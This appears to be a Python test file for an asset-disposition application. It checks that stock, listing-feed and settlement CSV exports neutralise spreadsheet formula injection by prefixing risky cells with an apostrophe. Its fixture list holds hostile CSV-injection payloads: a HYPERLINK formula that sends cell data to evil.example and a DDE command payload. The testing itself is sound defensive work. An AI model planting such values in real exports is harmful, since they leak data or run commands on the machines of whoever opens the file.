"""No CSV we write can run a formula in the spreadsheet that opens it: a client's value starting with =, +, -, @,
a tab or a carriage return is written with a leading apostrophe, in every export (stock CSV by API and page,
listing feed, settlement, the certificates' index); each export is opened and every cell checked."""

from __future__ import annotations

import csv
import io
from datetime import date

from itad import spreadsheets
from tests.factories import make_batch
from tests.inventory.conftest import clear, past_sale
from tests.web.conftest import Browser
from tests.workflow_db.conftest import devices_of

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_inert(text: str, expected: list[str]) -> None:
    cells = _cells(text)
    running = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert running == [], f"cells a spreadsheet would run: {running}"
    for value in expected:
        assert "'" + value in cells, f"{value!r} is not in the export as text"


def test_the_one_writer_neutralises_text_and_leaves_numbers_alone():
    assert [spreadsheets.cell(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "a\r\nb", -5, 3.5, None]] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\nx", "a=1", "a\nb", -5, 3.5, None]


def test_every_stock_export_and_the_settlement_write_hostile_values_as_text(bench, world, client, session, app):
    batch = make_batch(session, world.acme.org, reference="=EVIL()", devices=2)
    devices = devices_of(session, batch)
    devices[0].manufacturer, devices[0].model = HOSTILE[0], HOSTILE[1]
    devices[1].manufacturer, devices[1].model = HOSTILE[2], HOSTILE[4]
    session.commit()
    for d in devices:
        clear(bench, world, d)
    bench.ok(world.tech, "POST", f"/devices/{devices[0].id}/list", {"list_price": "10.00", "location": HOSTILE[3]})
    item = bench.ok(world.tech, "POST", f"/devices/{devices[1].id}/list", {"list_price": "12.00"})
    bench.ok(world.tech, "POST", f"/inventory/{item['id']}/reserve", {"buyer_reference": HOSTILE[5]})

    api = client.get("/api/v1/inventory/export.csv", headers=world.tech.headers).get_data(as_text=True)
    _assert_inert(api, HOSTILE[:6] + ["=EVIL()"])
    admin = Browser(app, world.admin.user)
    _assert_inert(admin.get("/admin/inventory/export.csv").get_data(as_text=True), HOSTILE[:5])
    feed = client.get("/api/v1/inventory/listing.csv?currency=EUR", headers=world.tech.headers).get_data(as_text=True)
    _assert_inert(feed, [])

    sold = make_batch(session, world.acme.org, reference="SETTLE")
    sale = past_sale(session, world.acme.org, batch=sold, sold_on=date(2025, 7, 1))
    sale_device = devices_of(session, sold)[0]
    sale_device.serial = HOSTILE[6]
    session.commit()
    bench.call(world.admin, "PUT", f"/organizations/{world.acme.org.id}/settlement-terms",
               json={"client_share_percent": "60.00"})
    settlement = client.get(f"/api/v1/batches/{sold.id}/settlement.csv", headers=world.acme.headers)
    assert settlement.status_code == 200 and sale is not None
    _assert_inert(settlement.get_data(as_text=True), ["\n=1+1"])      # its carriage return written as "\n"
